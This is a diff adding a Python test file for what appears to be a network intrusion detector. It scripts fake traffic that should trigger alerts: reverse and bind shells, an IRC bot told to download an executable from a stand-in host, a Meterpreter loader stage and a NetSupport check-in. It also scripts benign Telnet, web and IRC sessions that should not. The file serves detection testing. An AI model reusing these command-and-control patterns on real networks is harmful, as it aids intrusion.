@@ -1,0 +1,61 @@
+"""Scenes of shells and remote access tools, and of honest remote logins."""
+
+from cases import fires, silent
+from payloads import request, response
+from traffic import Wire
+
+ME, MASTER = "10.0.0.9", "203.0.113.66"
+
+
+@fires("high", title="Windows command prompt")
+def windows_shell(wire: Wire) -> None:
+    """A reverse shell: the victim connects out and sends a prompt, commands come back."""
+    prompt = b"Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Users\\bob>"
+    wire.talk(ME, MASTER, 4444, [("s", b"\n"), ("c", prompt), ("s", b"whoami\n"), ("c", b"whoami\r\nlab\\bob\r\n\r\nC:\\Users\\bob>")])  # fmt: skip
+
+
+@fires("high", title="Unix shell")
+def unix_shell(wire: Wire) -> None:
+    """A shell bound to a port: commands in, the answer of `id` out."""
+    wire.talk(MASTER, ME, 31_337, [("c", b"id\n"), ("s", b"uid=0(root) gid=0(root) groups=0(root)\n"), ("c", b"uname -a\n"), ("s", b"Linux box 6.1.0\n")])  # fmt: skip
+
+
+@fires("high", title="IRC bot")
+def irc_bot(wire: Wire) -> None:
+    """A bot joins a channel on an odd port with a computed nickname that tells country and system."""
+    said = [("c", b"NICK {DEU|XP-SP3}4711029\r\nUSER x x x :x\r\n"), ("s", b":irc 001 x :hi\r\n"), ("c", b"JOIN #cmd key\r\n"), ("s", b":x TOPIC #cmd :.download http://203.0.113.66/a.exe\r\n")]  # fmt: skip
+    wire.talk(ME, MASTER, 7007, said, close="")
+
+
+@fires("high", title="memory")
+def reflective_loader(wire: Wire) -> None:
+    """A stage with Meterpreter's loader over a bare connection."""
+    wire.talk(ME, MASTER, 4444, [("s", b"\0\0\x02\0MZ" + bytes(300) + b"ReflectiveLoader" + wire.noise(4000))])
+
+
+@fires("high", title="NetSupport")
+def netsupport(wire: Wire) -> None:
+    """NetSupport Manager's check-in over HTTP (a remote tool that campaigns install)."""
+    ask = request("/fakeurl.htm", host=MASTER, method="POST", agent="NetSupport Manager/1.3", body=b"CMD=POLL\nINFO=1\nACK=1\n")  # fmt: skip
+    wire.talk(ME, MASTER, 443, [("c", ask), ("s", response(200, b"CMD=ENCD\nES=1\n"))])
+
+
+@silent(also=("clear-text-credentials",))
+def telnet(wire: Wire) -> None:
+    """An honest Telnet session shows a prompt and a banner."""
+    said = [("s", b"\xff\xfd\x18\xff\xfd\x20"), ("c", b"\xff\xfb\x18"), ("s", b"login: "), ("c", b"bob\r\n"), ("s", b"Password: "), ("c", b"x\r\n"), ("s", b"Last login: Mon\r\nbob@box:~$ ")]  # fmt: skip
+    wire.talk(ME, "10.0.0.5", 23, said)
+
+
+@silent()
+def lesson(wire: Wire) -> None:
+    """A web page of a course shows a Windows prompt and the output of id."""
+    page = b"<pre>Microsoft Windows [Version 10.0.19045.3570]\nuid=0(root) gid=0(root)</pre>"
+    wire.talk(ME, "198.51.100.9", 80, [("c", request("/course")), ("s", response(200, page))])
+
+
+@silent()
+def chat_room(wire: Wire) -> None:
+    """A person joins an IRC network with an ordinary nickname."""
+    said = [("c", b"NICK alice\r\nUSER alice 0 * :Alice\r\n"), ("s", b":irc.example.org 001 alice :Welcome\r\n"), ("c", b"JOIN #python\r\n"), ("s", b":irc.example.org 332 alice #python :Be nice\r\n")]  # fmt: skip
+    wire.talk(ME, "198.51.100.9", 6667, said, close="")
